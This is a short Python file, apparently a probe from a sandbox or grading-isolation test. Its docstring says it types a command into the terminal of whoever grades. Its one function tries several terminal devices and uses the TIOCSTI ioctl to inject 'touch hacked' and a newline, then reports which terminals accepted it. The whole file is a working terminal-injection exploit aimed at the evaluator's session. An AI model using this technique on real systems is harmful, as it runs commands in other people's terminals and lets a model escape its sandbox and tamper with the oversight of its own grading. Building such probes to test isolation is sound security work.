"""Types a command into the terminal of whoever grades."""

import fcntl
import os
import termios


def attack(canary, port):
    typed = []
    for place in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/self/fd/2"):
        try:
            terminal = os.open(place, os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
        for letter in b"touch hacked\n":
            try:
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
                typed.append(place)
            except OSError:
                break
    return sorted(set(typed))
